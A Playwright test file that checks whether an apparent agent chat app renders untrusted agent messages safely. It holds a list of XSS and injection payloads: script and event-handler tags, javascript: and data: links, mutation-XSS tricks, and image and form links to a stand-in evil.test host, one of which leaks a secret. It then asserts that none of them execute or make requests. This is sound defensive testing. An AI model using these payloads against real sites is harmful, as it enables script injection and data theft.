import type { Page } from '@playwright/test'
import { expect, test } from './app.ts'

/** Words that would do something, were they ever taken for more than words. One line each. */
const payloads = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<img src="https://evil.test/a.png">',
  '![pixel](https://evil.test/b.png?d=secret)',
  '![pixel][ref] and [ref]: https://evil.test/c.png',
  '[click](javascript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[click](vbscript:window.pwned=1)',
  '<javascript:window.pwned=1>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<svg onload="window.pwned=1"></svg>',
  '<svg><animate onbegin="window.pwned=1" attributeName="x"></svg>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<style>@import "https://evil.test/d.css"</style>',
  '<link rel=stylesheet href="https://evil.test/e.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/f">',
  '<form action="https://evil.test/g"><button autofocus>x</button></form>',
  '<video src="https://evil.test/h.mp4" autoplay></video>',
  '<object data="https://evil.test/i"></object>',
  '<base href="https://evil.test/">',
  '<details open ontoggle="window.pwned=1">x</details>',
  '<input autofocus onfocus="window.pwned=1">',
  '"><img src=x onerror=window.pwned=1>',
  '`</code><img src=x onerror=window.pwned=1>`',
  '```html"><img src=x onerror=window.pwned=1>',
  '$\\href{javascript:window.pwned=1}{x}$',
  '[//evil.test/j](//evil.test/j) https://evil.test/k <https://evil.test/l>',
  '<div style="position:fixed;inset:0;background:url(https://evil.test/m)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '<template><img src=x onerror=window.pwned=1></template>',
  '\u202e<tpircs>1=denwp.wodniw\u202c \u200b\u2066x\u2069',
]

/** Whatever the page asks for that is not the app's. */
function strangersOf(page: Page, own: string): string[] {
  const strangers: string[] = []
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (origin !== own && protocol !== 'blob:' && !request.url().startsWith('data:image/'))
      strangers.push(request.url())
  })
  return strangers
}

test('words stay words, whoever says them', async ({ desk, janus, place }) => {
  const own = new URL(janus.url).origin
  const strangers = strangersOf(desk.page, own)
  await janus.api('POST', '/agents', { name: 'scout', cwd: place.work, role: payloads[1] })
  await janus.api('POST', '/agents', { name: 'puppet', cwd: place.work })
  await desk.say('scout', ...payloads.map((payload) => `say: ${payload}\\n`), 'say: And the last.')
  await expect(desk.transcript('scout')).toContainText('And the last.')
  await expect(desk.tab('scout', 'idle')).toBeVisible()

  const message = JSON.stringify({ target: 'puppet', message: payloads.join('\n\n') })
  await desk.say('scout', `call: send_to_agent ${message}`, 'say: Sent.')
  await expect(desk.line('scout', 'Sent.')).toBeVisible()
  await expect(desk.tab('puppet', 'idle')).toBeVisible()
  await desk.show('puppet')
  await expect(desk.transcript('puppet')).toContainText('onerror')

  expect(await desk.page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(strangers).toEqual([])
  expect(new URL(desk.page.url()).origin).toBe(own)
  const alive = desk.page.locator(
    'script, style, iframe, object, embed, form, base, meta[http-equiv], [onerror], [onload]',
  )
  expect(await desk.transcript('puppet').locator(alive).count()).toBe(0)
  const targets = await desk.page
    .locator('a[href]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
  expect(targets.filter((target) => target !== null && !/^(https?:|mailto:)/.test(target))).toEqual([])
})
